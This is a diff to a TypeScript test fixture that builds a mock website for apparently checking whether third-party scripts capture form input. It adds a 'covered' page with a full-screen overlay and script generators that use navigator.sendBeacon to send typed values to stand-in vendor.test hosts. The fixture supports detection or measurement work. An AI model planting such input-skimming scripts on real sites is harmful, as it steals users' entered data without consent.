@@ -81,10 +81,14 @@ export function twinSite(): FieldSite {
   const button = '<p><button type="button" onclick="up()">Subscribe</button></p>';
   const upScript = `function up() { const d = document.createElement('dialog'); d.innerHTML = '<h2>Our letter</h2>' + document.querySelector('#shown').outerHTML.replace('shown', 'called');
     document.body.append(d); d.showModal(); }`;
+  const listensInDialog = (vendor: string) =>
+    script(
+      `${upScript} addEventListener('change', e => e.target.closest('dialog') && navigator.sendBeacon('https://${vendor}/b', e.target.value))`,
+    );
   const contents: Record<string, Content> = {
     '/': page(
       'Start',
-      ['twins', 'copied', 'kept-away', 'pressed', 'quiet']
+      ['twins', 'copied', 'kept-away', 'pressed', 'covered', 'quiet']
         .map(path => `<p><a href="/${path}/">${path}</a></p>`)
         .join(''),
     ),
@@ -106,10 +110,14 @@ export function twinSite(): FieldSite {
       'Pressed',
       `${named('shown')}${button}<script src="https://dialog.vendor.test/t.js"></script>`,
     ),
-    '/quiet/': page('Quiet', `${named('shown')}${button}<script>${upScript}</script>`),
-    '//dialog.vendor.test/t.js': script(
-      `${upScript} addEventListener('change', e => e.target.closest('dialog') && navigator.sendBeacon('https://dialog.vendor.test/b', e.target.value))`,
+    // Nothing but the keyboard reaches the button.
+    '/covered/': page(
+      'Covered',
+      `${named('shown')}${button}<div style="position: fixed; inset: 0"></div><script src="https://covered.vendor.test/t.js"></script>`,
     ),
+    '/quiet/': page('Quiet', `${named('shown')}${button}<script>${upScript}</script>`),
+    '//dialog.vendor.test/t.js': listensInDialog('dialog.vendor.test'),
+    '//covered.vendor.test/t.js': listensInDialog('covered.vendor.test'),
     '//listens.vendor.test/t.js': script(
       `document.querySelector('#footer-form').addEventListener('change', e => navigator.sendBeacon('https://listens.vendor.test/b', e.target.value))`,
     ),
